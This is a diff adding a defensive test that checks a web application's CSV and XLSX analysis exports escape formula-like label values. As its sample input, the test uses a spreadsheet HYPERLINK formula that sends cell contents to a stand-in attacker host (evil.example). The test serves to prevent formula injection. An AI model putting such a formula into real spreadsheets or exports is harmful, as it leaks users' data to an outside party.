@@ -276,3 +276,34 @@ def test_the_agreement_page_says_it_is_in_force_and_when_notice_is_due_and_recor
     assert 'data-field="notice_received_on"' in refused.get_data(as_text=True)
     assert given.status_code == 302
     assert "15.04.2027" in after  # ceases after the current term (art. 3.4)
+
+
+def test_the_joint_analysis_exports_keep_formula_like_names_as_text(
+    client, login_as, records, tli, monkeypatch
+):
+    import csv as csv_module
+    import io
+
+    from openpyxl import load_workbook
+
+    from reports import cooperation as analysis
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+    class Hostile(dict):
+        def get(self, key, default=None):
+            return hostile
+
+    monkeypatch.setattr(analysis, "norm_labels", lambda s: Hostile())
+    login_as(tli)
+    query = "by=norm&date_from=2026-01-01&date_to=2026-11-26"
+
+    csv = client.get(f"/cooperation/analysis.csv?{query}")
+    xlsx = client.get(f"/cooperation/analysis.xlsx?{query}")
+
+    rows = list(csv_module.reader(csv.get_data(as_text=True).lstrip("\ufeff").splitlines()))
+    book = load_workbook(io.BytesIO(xlsx.data))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
+    assert "'" + hostile in [row[0] for row in rows if row]
+    assert "'" + hostile in cells
+    assert not [c for c in [*sum(rows, []), *cells] if isinstance(c, str) and c.startswith("=")]
